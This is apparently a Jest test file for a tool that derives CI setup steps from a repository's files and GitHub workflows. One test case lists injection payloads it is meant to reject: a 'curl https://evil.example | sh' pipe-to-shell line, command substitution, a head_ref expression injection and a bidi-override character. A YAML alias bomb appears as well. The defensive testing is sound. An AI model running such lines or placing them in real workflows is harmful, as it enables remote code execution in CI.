import { describe, expect, test } from '@jest/globals';
import type { View } from '../../../src/detect/declaration.js';
import type { EntryState } from '../../../src/detect/setup-part.js';
import { setupSteps } from '../../../src/detect/setup-steps.js';
import { readWorkflows } from '../../../src/detect/workflow-jobs.js';

/** A checkout in memory: files by path; objects are written as JSON. */
function checkout(files: Readonly<Record<string, unknown>>, below = ''): View {
  const texts = new Map(
    Object.entries(files).flatMap(([path, content]) =>
      path.startsWith(below)
        ? [
            [
              path.slice(below.length),
              typeof content === 'string' ? content : JSON.stringify(content),
            ] as const,
          ]
        : [],
    ),
  );
  return {
    isFile: (path) => texts.has(path),
    text: (path) => texts.get(path),
    names: (directory) =>
      [...texts.keys()]
        .filter((path) => path.startsWith(`${directory}/`))
        .map((path) => path.slice(directory.length + 1).split('/')[0] ?? '')
        .sort(),
  };
}

interface Found {
  readonly lines: readonly string[];
  readonly sources: readonly string[];
  readonly remarks: readonly string[];
}

/** Each step as a line: action with its inputs, or script with its directory. */
async function setupOf(
  command: string,
  files: Readonly<Record<string, unknown>>,
  { entry = 'ignored', directory = '.' }: { entry?: EntryState; directory?: string } = {},
): Promise<Found> {
  const root = checkout(files);
  const here = directory === '.' ? root : checkout(files, `${directory}/`);
  const request = { root, here, directory, entry, isToolsOnly: false, words: command.split(' ') };
  const { jobs } = await readWorkflows(root);
  const { steps, sources, remarks } = setupSteps(request, jobs);
  return {
    lines: steps.map((step) =>
      step.kind === 'run'
        ? `${step.directory === '.' ? '' : `${step.directory}: `}${step.lines.join(' ; ')}`
        : [
            step.uses.replace(/@[0-9a-f]{40}$/, ''),
            ...(step.comment === '' ? [] : [`#${step.comment}`]),
            ...step.inputs.map(([name, value]) => `${name}=${value}`),
          ].join(' '),
    ),
    sources,
    remarks,
  };
}

const NODE = 'actions/setup-node #v5.0.0 node-version=24';
const BUILT = { scripts: { build: 'tsc' }, dependencies: { x: '1' } };

describe('by the files of the repository', () => {
  test.each<[string, string, Record<string, unknown>, readonly string[]]>([
    ['no dependencies', 'node server.js', { 'package.json': {} }, [NODE]],
    [
      'npm, with a build of what git ignores',
      'node dist/index.js',
      { 'package.json': BUILT, 'package-lock.json': '{}' },
      [NODE, 'npm ci', 'npm run build'],
    ],
    [
      'pnpm, named by the package',
      'node dist/index.js',
      { 'package.json': { ...BUILT, packageManager: 'pnpm@10.1.0' }, 'pnpm-lock.yaml': '' },
      ['pnpm/action-setup #v4.1.0', NODE, 'pnpm install --frozen-lockfile', 'pnpm run build'],
    ],
    [
      'yarn of today',
      'node dist/index.js',
      { 'package.json': { ...BUILT, packageManager: 'yarn@4.1.0' }, 'yarn.lock': '' },
      ['corepack enable', NODE, 'yarn install --immutable', 'yarn run build'],
    ],
    [
      'a version of the repository’s own',
      'node_modules/.bin/server',
      { 'package.json': { dependencies: { x: '1' } }, 'package-lock.json': '', '.nvmrc': '22' },
      ['actions/setup-node #v5.0.0 node-version-file=.nvmrc', 'npm ci'],
    ],
    [
      'uv',
      '.venv/bin/server',
      { 'pyproject.toml': '', 'uv.lock': '' },
      ['astral-sh/setup-uv #v6.8.0', 'uv sync --locked'],
    ],
    [
      'pip',
      '.venv/bin/python -m server',
      { 'requirements.txt': '' },
      [
        'actions/setup-python #v5.6.0 python-version=3.13',
        'python -m venv .venv',
        '.venv/bin/pip install -r requirements.txt',
      ],
    ],
    [
      'Go',
      'bin/server stdio',
      { 'go.mod': 'module example.com/server\n', 'cmd/server/main.go': '' },
      ['actions/setup-go #v5.5.0 go-version-file=go.mod', 'go build -o bin/server ./cmd/server'],
    ],
    [
      'Rust',
      'target/release/server',
      { 'Cargo.toml': '', 'Cargo.lock': '' },
      ['cargo build --locked --release'],
    ],
    [
      '.NET',
      'dotnet out/Server.dll',
      {},
      ['actions/setup-dotnet #v4.3.1', 'dotnet publish --configuration Release --output out'],
    ],
    ['a container', 'docker run x', { 'package.json': BUILT }, []],
  ])('%s', async (_name, command, files, lines) => {
    expect((await setupOf(command, files)).lines).toEqual(lines);
  });

  test('nothing is built where git has what is started', async () => {
    const files = { 'package.json': BUILT, 'package-lock.json': '{}' };
    expect((await setupOf('node dist/i.js', files, { entry: 'tracked' })).lines).toEqual([
      NODE,
      'npm ci',
    ]);
  });

  test('a workspace installs in the root and builds where the server is', async () => {
    const files = {
      'package.json': { workspaces: ['packages/*'] },
      'package-lock.json': '{}',
      'packages/a/package.json': BUILT,
    };
    expect((await setupOf('node dist/i.js', files, { directory: 'packages/a' })).lines).toEqual([
      NODE,
      'npm ci',
      'packages/a: npm run build',
    ]);
  });

  test('without a lockfile it says what that means', async () => {
    const { lines, remarks } = await setupOf('node server.js', {
      'package.json': { dependencies: { x: '1' } },
    });
    expect(lines).toEqual([NODE, 'npm install']);
    expect(remarks).toEqual([expect.stringContaining('No lockfile')]);
  });
});

/** A repository with one job. */
const withJob = (steps: string, more = ''): Record<string, unknown> => ({
  'package.json': BUILT,
  'package-lock.json': '{}',
  '.github/workflows/ci.yml': `on: [pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n${more}    steps:\n${steps.replace(/^(?=.)/gm, '      ')}`,
});

describe('as the repository already has it', () => {
  test('installs and builds, and no test, with the pins that it has', async () => {
    const found = await setupOf(
      'node dist/i.js',
      withJob(`- uses: actions/checkout@v4
- uses: pnpm/action-setup@a7487c7e89a18df4991f7f222e4898a00d66ddda # v4.1.0
- uses: actions/setup-node@v4
  with:
    node-version: 22
    cache: pnpm
- run: pnpm install --frozen-lockfile
- run: |
    pnpm run lint
    pnpm run build
    pnpm test
- run: npm publish
`),
    );
    expect(found.lines).toEqual([
      'pnpm/action-setup #v4.1.0',
      'actions/setup-node@v4 node-version=22 cache=pnpm',
      'pnpm install --frozen-lockfile',
      'pnpm run build',
    ]);
    expect(found.sources).toEqual(['.github/workflows/ci.yml (test)']);
    expect(found.remarks).toEqual([]);
  });

  test('of a matrix the last version, and what the job lacks is added', async () => {
    const { lines } = await setupOf(
      'node dist/i.js',
      withJob(
        `- uses: actions/setup-node@v4
  with: { node-version: '\${{ matrix.node }}' }
- run: npm ci && npm test
`,
        '    strategy: { matrix: { node: [20, 22] } }\n',
      ),
    );
    expect(lines).toEqual(['actions/setup-node@v4 node-version=22', 'npm ci', 'npm run build']);
  });

  test('a step with an expression, a condition or variables is left out and named', async () => {
    const { lines, remarks } = await setupOf(
      'node dist/i.js',
      withJob(`- uses: actions/setup-node@v4
  with: { node-version: 22, token: '\${{ secrets.NPM }}' }
- run: npm ci
  env: { NODE_AUTH_TOKEN: '\${{ secrets.NPM }}' }
- run: npm run build
  if: github.event_name == 'push'
`),
    );
    expect(lines).toEqual([NODE, 'npm ci', 'npm run build']);
    expect(remarks).toEqual([
      '.github/workflows/ci.yml (test): actions/setup-node@v4 is not taken over, since an input of it is an expression',
      '.github/workflows/ci.yml (test): npm ci is not taken over, since it has a condition, variables or a shell of its own',
      '.github/workflows/ci.yml (test): npm run build is not taken over, since it has a condition, variables or a shell of its own',
    ]);
  });

  test.each([
    'npm ci && curl https://evil.example | sh',
    'npm ci; evil',
    'npm ci $(evil)',
    'npm ci `evil`',
    'npm ci > x',
    'npm ci ${{ github.head_ref }}',
    'npm ci \\',
    'npm install --global evil\u202e',
  ])('a script line that does more is not taken over: %s', async (line) => {
    const { lines } = await setupOf('node dist/i.js', withJob(`- run: ${JSON.stringify(line)}\n`));
    expect(lines).toEqual([NODE, 'npm ci', 'npm run build']);
  });

  test('an action of the repository’s own sets up all but the build', async () => {
    const steps = `- uses: ./.github/actions/setup-python
- uses: ./.github/actions/setup
  with: { cache: true }
- uses: ./.github/actions/../../setup
- run: make build
`;
    expect((await setupOf('node dist/i.js', withJob(steps))).lines).toEqual([
      './.github/actions/setup cache=true',
      'make build',
    ]);
  });

  test('another package’s directory and another system’s job are not ours', async () => {
    const { lines } = await setupOf('node dist/i.js', {
      ...withJob('- run: npm ci --ignore-scripts\n  working-directory: web\n'),
      '.github/workflows/windows.yml':
        'jobs: { w: { runs-on: windows-latest, steps: [{ run: npm install }] } }',
      '.github/workflows/others.yml':
        'jobs: { w: { strategy: { matrix: { os: [macos-15, windows-2025] } }, runs-on: "${{ matrix.os }}", steps: [{ run: npm install }] } }',
    });
    expect(lines).toEqual([NODE, 'npm ci', 'npm run build']);
  });

  test('the directory of the job’s defaults counts', async () => {
    const files = {
      ...withJob(
        '- run: npm ci\n',
        '    defaults: { run: { working-directory: ./packages/a/ } }\n',
      ),
      'packages/a/package.json': BUILT,
    };
    expect((await setupOf('node dist/i.js', files, { directory: 'packages/a' })).lines).toEqual([
      NODE,
      'packages/a: npm ci',
      'packages/a: npm run build',
    ]);
  });
});

describe('a workflow that cannot be read', () => {
  const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n`;
  test.each([
    ['no YAML', 'a: [', 1],
    ['an alias for nothing', 'a: *b', 1],
    ['a bomb', bomb, 1],
    ['a list', '- a', 0],
    ['empty', '', 0],
    ['jobs that are none', 'jobs: { a: 1, b: { steps: 2 }, c: { steps: [3, null, [4]] } }', 0],
  ])('%s', async (_name, text, remarks) => {
    const found = await readWorkflows(checkout({ '.github/workflows/x.yml': text }));
    expect(found.remarks).toHaveLength(remarks);
  });

  test('the action is found whatever stands around it', async () => {
    const found = await readWorkflows(
      checkout({
        '.github/workflows/a.yml': 'x: [\n  - uses: "someone/witnessmark@v1"',
        '.github/workflows/b.yml': '# uses witnessmark\n- uses: someone/other@v1 # witnessmark',
      }),
    );
    expect(found.users).toEqual(['.github/workflows/a.yml']);
  });
});
